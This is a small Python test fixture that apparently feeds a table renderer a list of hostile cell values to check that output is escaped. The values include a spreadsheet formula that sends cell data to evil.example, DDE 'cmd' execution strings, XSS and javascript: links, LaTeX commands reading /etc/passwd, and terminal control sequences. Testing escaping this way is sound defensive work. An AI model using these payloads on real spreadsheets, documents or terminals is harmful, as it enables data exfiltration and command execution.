"""A table of what would act somewhere, were it not escaped."""

from __future__ import annotations

from geceval.presentation.table import Table

PAYLOADS = (
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "a\n=1+1",
    "<script>alert(1)</script>",
    "a | b",
    "`x` *b* _i_ ~~s~~ $m$",
    "[click](javascript:alert(1)) ![i](http://x.example/y.png)",
    "<http://x.example> http://x.example www.x.example",
    "&lt;b&gt; A & B",
    "\\input{/etc/passwd} \\write18{x} ^^5cinput",
    "[2in] *",
    "*",
    "\x1b]0;x\x07 \x9b31m \u202e \x00",
)
"""Formulas, markup, commands and controls."""
HOSTILE_TABLE = Table(
    "hostile",
    "Hostile",
    ("=1+1", "[2in]", "<b>"),
    tuple((text, number / 7, f"x {text}") for number, text in enumerate(PAYLOADS, -3)),
)
